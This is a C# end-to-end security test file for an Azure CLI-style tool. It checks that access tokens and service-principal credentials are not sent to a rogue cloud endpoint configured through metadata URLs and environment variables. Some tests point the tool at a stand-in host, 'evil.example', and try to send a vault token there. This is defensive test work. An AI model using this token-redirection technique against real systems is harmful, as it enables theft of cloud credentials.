using Azimuth.EndToEnd.Clouds;
using Azimuth.EndToEnd.SignIn.ManagedIdentity;
using Azimuth.Harness;
using Azimuth.Harness.Scenarios;

namespace Azimuth.EndToEnd.Security.Clouds;

/// <summary>Attack S1: who gets what is signed in, asked by every command that has a token or a credential to send.</summary>
public sealed class ForeignResourceManagerTests
{
    private const string Terraform = "55555555-5555-5555-5555-555555555555";
    private const string SignInThere = "Sign in and send tokens there? [y/N]";

    [Theory]
    [InlineData("https://management.core.windows.net/")]
    [InlineData("https://storage.azure.com")]
    [InlineData("https://app.vssps.visualstudio.com")]
    [InlineData("https://outlook.office365.com")]
    [InlineData("https://vault.azure.net/4de154de-f8a8-4017-af41-df619da68155")]
    public async Task A_strangers_ARM_hears_nothing_from_those_who_are_signed_in_already(string audience)
    {
        using var evil = new FakeMetadataServer(
            _ => $"[{FakeMetadataServer.Cloud("Evil", "https://login.microsoftonline.com", "https://evil.example", audience)}]");
        using var home = new Home().WithFixture("mixed");
        home.Put("azureProfile.json", home["azureProfile.json"].Replace("AzureCloud", "Evil", StringComparison.Ordinal));
        home.Variables["ARM_CLOUD_METADATA_URL"] = evil.Url;
        home.Variables["AZURE_CLOUD_NAME"] = "Evil";

        foreach (var line in (string[])[
            "account get-access-token", "account get-access-token --resource https://management.core.windows.net/",
            "rest -u /subscriptions", "rest -u https://evil.example/x --resource https://vault.azure.net",
            "account list-locations", "account tenant list"])
        {
            var ran = await home.Az.RunAsync(line);

            ran.ShouldExit(1).Stderr.ShouldContain("which does not belong to that cloud", customMessage: line);
            ran.Stdout.ShouldBeEmpty();
        }

        (await home.Az.RunAsync("account list --refresh")).Stderr.ShouldContain("which does not belong to that cloud");
        evil.Requests.ShouldHaveSingleItem().ShouldStartWith("GET /metadata/endpoints");
    }

    [Fact]
    public async Task A_machines_token_goes_to_a_port_of_this_machine_when_the_user_says_so()
    {
        await using var azure = await Sandbox.StartAsync();
        using var home = Machine.On(azure, "imds");
        OnlyTheVariable(home, azure);

        var refused = await home.Az.RunAsync("login --identity", input: "y\n");
        var before = (await azure.Journal.ReadAsync("managedIdentity")).Count;
        await using var terminal = Terminal.Start(home, "login --identity");
        await terminal.WaitForAsync(SignInThere);
        await terminal.TypeAsync("y\n");
        (await terminal.EndAsync()).ShouldSucceed();

        refused.ShouldExit(1).Stderr.ShouldContain($"to {new Uri(azure.Arm).Authority}, and there is no terminal to confirm it");
        before.ShouldBe(0, "nobody is asked for a token");
        (await home.Az.RunAsync("account get-access-token")).ShouldSucceed();
        (await home.Az.RunAsync("rest -u /subscriptions?api-version=2022-12-01")).ShouldSucceed();
    }

    [Fact]
    public async Task A_resource_that_was_named_goes_where_only_the_variable_leads_with_the_host_that_was_named()
    {
        await using var azure = await Sandbox.StartAsync();
        using var home = azure.NewHome();
        OnlyTheVariable(home, azure);
        (await home.Az.RunAsync(
            [
                "login", "--service-principal", "-u", Terraform, "-p", "Azimuth-sandbox-secret-1", "--tenant",
                Contoso.Domain
            ])).ShouldSucceed();
        const string path = "/subscriptions?api-version=2022-12-01";

        var own = await home.Az.RunAsync($"rest -u {path}");
        var below = await home.Az.RunAsync($"rest -u {path} --resource https://vault.azure.net");
        var asked = (await azure.Journal.ReadAsync("subscriptions")).Count;
        var whole = await home.Az.RunAsync($"rest -u {azure.Arm}{path} --resource https://vault.azure.net");

        own.ShouldSucceed().Stderr.ShouldBeEmpty();
        below.ShouldExit(1).Stderr.ShouldContain("To send it, use the full URL in --url.");
        (await azure.Journal.ReadAsync("subscriptions")).Count.ShouldBeGreaterThan(asked, "what was named whole is sent");
        whole.Stderr.ShouldContain($"A token for 'https://vault.azure.net' is sent to {new Uri(azure.Arm).Authority}");
    }

    [Theory]
    [InlineData("-p", "Azimuth-sandbox-secret-1")]
    [InlineData("--federated-token", "eyJhbGciOiJub25lIn0.e30.")]
    public async Task Where_an_applications_credential_goes_that_only_the_environment_names_is_said_once(string option, string value)
    {
        await using var azure = await Sandbox.StartAsync();
        using var home = Named(azure);

        var login = await home.Az.RunAsync(
            ["login", "--service-principal", "-u", Terraform, option, value, "--tenant", Contoso.Domain, "-o", "none"]);

        login.Stderr.Split('\n').Where(each => each.StartsWith("WARNING", StringComparison.Ordinal)).ShouldHaveSingleItem()
            .ShouldContain($"signs in at {new Uri(azure.SignIn).Authority}. The credential of the service principal is sent there");
        login.Stderr.ShouldNotContain(value);
    }

    private static Home Named(Sandbox azure)
    {
        var home = azure.NewHome();
        OnlyTheVariable(home, azure);
        return home;
    }

    private static void OnlyTheVariable(Home home, Sandbox azure)
    {
        File.Delete(Path.Combine(home.Config, "clouds.config"));
        home.Variables["ARM_CLOUD_METADATA_URL"] = $"{azure.Arm}/metadata/endpoints?api-version=2019-05-01";
    }
}
